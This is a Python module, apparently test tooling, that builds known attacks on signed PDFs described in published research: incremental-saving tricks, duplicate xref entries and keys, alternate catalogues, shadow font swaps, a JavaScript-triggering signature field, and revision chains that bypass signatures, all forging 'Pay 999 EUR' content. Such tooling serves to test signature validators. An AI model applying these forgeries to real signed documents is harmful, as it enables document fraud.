"""What attackers append to signed documents, byte by byte: each a known kind of attack.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019: universal forgery, incremental
saving, signature wrapping) and "Shadow Attacks" (NDSS 2021); Rohlmann et al., "Breaking the
Specification: PDF Certification" (S&P 2021). Where a reader must be made to see what another does
not, the files are written here by hand, since no library writes them.
"""

import re
from io import BytesIO

from pyhanko.pdf_utils.generic import Reference
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED = b"BT /F 24 Tf 60 700 Td (Pay 999 EUR) Tj ET"


class Dissected:
    """Numbers of the objects that attacks need, of a document that pikepdf wrote."""

    def __init__(self, pdf: bytes) -> None:
        self.pdf = pdf
        self.reader = PdfFileReader(BytesIO(pdf), strict=False)
        self.startxref = self.reader.last_startxref
        self.size = int(self.reader.trailer["/Size"])
        self.root = self.reader.root_ref.idnum
        self.pages = self.reader.root.raw_get("/Pages").idnum
        page = self.reader.root["/Pages"]["/Kids"].raw_get(0)
        self.page = page.idnum
        content = page.get_object().raw_get("/Contents")
        self.content = getattr(content, "idnum", 0)

    def source(self, number: int) -> bytes:
        """An object as PDF text."""
        output = BytesIO()
        self.reader.get_object(Reference(number, 0, self.reader)).write_to_stream(output, None)
        return output.getvalue()

    def form(self) -> int:
        return int(self.reader.root.raw_get("/AcroForm").idnum)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    size: int | None = None,
    previous: int | None = None,
    unlisted: dict[int, bytes] | None = None,
    trailer: bytes = b"",
) -> bytes:
    """One more revision with these objects; `unlisted` ones are written, but not in the table."""
    known = Dissected(pdf)
    output = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    places = {}
    for number, body in {**objects, **(unlisted or {})}.items():
        places[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(output)
    output += b"xref\n"
    for number in sorted(objects):
        place = places[number]
        output += b"%d 1\n%010d 00000 n \n" % (number, place)
    top = max([known.size, *(number + 1 for number in objects)])
    output += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size or top,
        known.root,
        known.startxref if previous is None else previous,
        trailer,
        table,
    )
    return bytes(output)


def content_replaced(pdf: bytes) -> bytes:
    """The plain one: other content under the same number."""
    return update(pdf, {Dissected(pdf).content: stream(FORGED)})


def objects_without_table(pdf: bytes) -> bytes:
    """Incremental saving: new objects, but the old table; some programs then search for objects."""
    known = Dissected(pdf)
    body = b"%d 0 obj\n%s\nendobj\n" % (known.content, stream(FORGED))
    return pdf + body + b"startxref\n%d\n%%%%EOF\n" % known.startxref


def objects_without_trailer(pdf: bytes) -> bytes:
    """Incremental saving: new objects and nothing after them."""
    known = Dissected(pdf)
    return pdf + b"%d 0 obj\n%s\nendobj\n" % (known.content, stream(FORGED))


def hidden_object(pdf: bytes) -> bytes:
    """A harmless revision that carries an object its table does not list."""
    known = Dissected(pdf)
    return update(
        pdf,
        {known.size: b"<< /Producer (x) >>"},
        unlisted={known.content: stream(FORGED)},
        trailer=b"/Info %d 0 R" % known.size,
    )


def listed_twice(pdf: bytes) -> bytes:
    """Two entries for one object: some programs take the first, some the last."""
    known = Dissected(pdf)
    old = re.search(rb"\n%d 0 obj" % known.content, pdf)
    assert old
    output = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    place = len(output)
    output += b"%d 0 obj\n%s\nendobj\n" % (known.content, stream(FORGED))
    table = len(output)
    for offset in (place, old.start() + 1):
        if offset == place:
            output += b"xref\n"
        output += b"%d 1\n%010d 00000 n \n" % (known.content, offset)
    output += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        known.size,
        known.root,
        known.startxref,
        table,
    )
    return bytes(output)


def key_twice(pdf: bytes) -> bytes:
    """A dictionary with one key twice: programs differ in which they believe."""
    known = Dissected(pdf)
    page = known.source(known.page).rstrip()
    assert page.endswith(b">>")
    twice = page[:-2] + b" /Contents %d 0 R >>" % known.size
    return update(pdf, {known.page: twice, known.size: stream(FORGED)})


def other_root(pdf: bytes) -> bytes:
    """Another catalogue with other pages."""
    known = Dissected(pdf)
    first = known.size
    page = known.source(known.page).replace(
        b"/Contents %d 0 R" % known.content, b"/Contents %d 0 R" % (first + 3)
    )
    made = update(
        pdf,
        {
            first: known.source(known.root).replace(
                b"/Pages %d 0 R" % known.pages, b"/Pages %d 0 R" % (first + 1)
            ),
            first + 1: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (first + 2),
            first + 2: page,
            first + 3: stream(FORGED),
        },
    )
    tail = made.rindex(b"/Root %d 0 R" % known.root)
    return made[:tail] + made[tail:].replace(
        b"/Root %d 0 R" % known.root, b"/Root %d 0 R" % first, 1
    )


def field_without_signature(pdf: bytes) -> bytes:
    """A new, empty signature field whose appearance is drawn over the page."""
    return _new_field(pdf, b"", with_appearance=True)


def field_with_script(pdf: bytes) -> bytes:
    """A new, empty, invisible signature field that runs a script."""
    script = b"/AA << /PO << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    return _new_field(pdf, script, with_appearance=False)


def field_with_caption(pdf: bytes) -> bytes:
    """A new, empty field without appearance that a viewer is asked to draw."""
    return _new_field(pdf, b"/MK << /BG [1 1 1] /CA (Pay 999 EUR) >>", with_appearance=False)


def shadow_font(pdf: bytes) -> bytes:
    """Shadow attack, replace: the font of a text field is exchanged, and redrawing demanded."""
    known = Dissected(pdf)
    form = known.source(known.form()).rstrip()
    shapes = stream(b"600 0 0 0 500 700 d1 0 0 500 700 re f")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 600 700] /FontMatrix [.001 0 0 .001 0 0]"
        b" /FirstChar 49 /LastChar 49 /Widths [600] /CharProcs << /nine %d 0 R >>"
        b" /Encoding << /Differences [49 /nine] >> >>" % (known.size + 1)
    )
    changed = form[:-2] + b" /NeedAppearances true /DR << /Font << /Helv %d 0 R >> >> >>" % (
        known.size
    )
    return update(pdf, {known.form(): changed, known.size: font, known.size + 1: shapes})


def drawing_demanded(pdf: bytes) -> bytes:
    """Viewers shall draw the fields anew, in another style."""
    known = Dissected(pdf)
    form = known.source(known.form()).rstrip()
    return update(
        pdf, {known.form(): form[:-2] + b" /NeedAppearances true /DA (/Helv 0 Tf 1 g) >>"}
    )


def back_to_the_past(pdf: bytes) -> bytes:
    """Only a pointer is appended: to a table inside the signed part."""
    first = re.search(rb"startxref\s+(\d+)", pdf)
    assert first
    return pdf + b"startxref\n%s\n%%%%EOF\n" % first.group(1)


def revision_skipped(original: bytes, signed: bytes) -> bytes:
    """A new revision whose chain leads past the signature: the document looks unsigned."""
    before = Dissected(original)
    return update(
        signed,
        {before.content: stream(FORGED), before.root: before.source(before.root)},
        previous=before.startxref,
        size=Dissected(signed).size,
    )


def _new_field(pdf: bytes, more: bytes, *, with_appearance: bool) -> bytes:
    known = Dissected(pdf)
    field, drawing = known.size, known.size + 1
    form = known.source(known.form()) if "/AcroForm" in known.reader.root else b""
    page = known.source(known.page).rstrip()
    added = b"%d 0 R ]" % field
    fields = re.sub(rb"(/Fields\s*\[[^\]]*)\]", rb"\1 " + added, form, count=1)
    if b"/Annots" in page:
        page = re.sub(rb"(/Annots\s*\[[^\]]*)\]", rb"\1 " + added, page, count=1)
    else:
        page = page[:-2] + b" /Annots [" + added + b" >>"
    box = b"0 0 595 842" if with_appearance else b"0 0 0 0"
    if more.startswith(b"/MK"):
        box = b"60 690 300 720"
    look = b"/AP << /N %d 0 R >>" % drawing if with_appearance else b""
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Later) /F 4 /Rect [%s] /P %d 0 R %s %s >>"
        % (box, known.page, look, more)
    )
    objects = {known.form(): fields, known.page: page, field: widget}
    if with_appearance:
        objects[drawing] = stream(
            b"1 g 0 0 595 842 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
        )
    return update(pdf, objects)


def dangling(pdf: bytes, *, beyond: bool) -> tuple[bytes, bytes]:
    """A document whose page refers to nothing yet, and what is appended once it is signed.

    `beyond`: the number is past the size that the signed document declares.
    """
    known = Dissected(pdf)
    number = known.size + 50
    page = known.source(known.page).replace(
        b"/Contents %d 0 R" % known.content,
        b"/Contents [%d 0 R %d 0 R]" % (known.content, number),
    )
    size = known.size if beyond else number + 1
    return update(pdf, {known.page: page}, size=size), b"%d" % number


def filled_in(signed: bytes, number: bytes) -> bytes:
    """The missing object of `dangling`."""
    return update(signed, {int(number): stream(FORGED)})
